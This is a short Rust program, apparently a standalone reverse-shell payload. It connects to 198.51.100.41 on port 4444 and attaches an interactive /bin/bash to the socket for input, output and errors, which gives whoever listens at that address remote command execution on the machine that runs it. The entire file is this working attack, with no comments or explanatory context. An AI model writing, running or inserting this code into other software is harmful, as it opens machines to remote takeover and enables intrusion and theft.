use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

fn main() {
    let s = match TcpStream::connect("198.51.100.41:4444") {
        Ok(s) => s,
        Err(_) => return,
    };
    let fd = s.as_raw_fd();
    let io = || unsafe { Stdio::from_raw_fd(fd) };
    let mut child = Command::new("/bin/bash").arg("-i").stdin(io()).stdout(io()).stderr(io()).spawn().unwrap();
    let _ = child.wait();
}
